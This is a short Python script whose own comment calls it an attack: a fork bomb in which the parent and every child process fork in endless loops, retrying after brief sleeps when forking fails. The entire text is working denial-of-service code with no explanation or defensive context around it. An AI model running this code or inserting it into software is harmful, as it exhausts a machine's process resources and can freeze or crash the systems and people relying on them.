# Attack: a fork bomb; every child forks forever.
import os
import time

while True:
    if os.fork() == 0:
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
